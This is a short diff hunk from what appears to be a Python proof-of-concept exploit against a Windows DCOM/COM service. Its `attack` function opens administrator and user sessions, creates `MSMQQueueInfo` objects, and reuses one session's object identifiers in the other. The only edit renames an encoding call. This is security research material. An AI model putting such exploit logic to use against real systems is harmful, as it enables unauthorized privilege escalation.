@@ -38,7 +38,7 @@ async def create(client: ComClient, target: Victim, name: str) -> RemoteInterfac
 
 async def attack(target: Victim) -> None:
     encoder = Encoder(representation(Syntax.NDR20))
-    ORPCTHIS.encode_whole(encoder, OrpcThis.of(CID))
+    ORPCTHIS.encode(encoder, OrpcThis.of(CID))
     async with ComClient(credentials=ADMINISTRATOR) as alice, ComClient(credentials=USER) as bob:
         hers, his = await create(alice, target, "MSMQQueueInfo"), await create(bob, target, "MSMQQueueInfo")
         exporter, ipid = his.held.exporter, hers.ipid
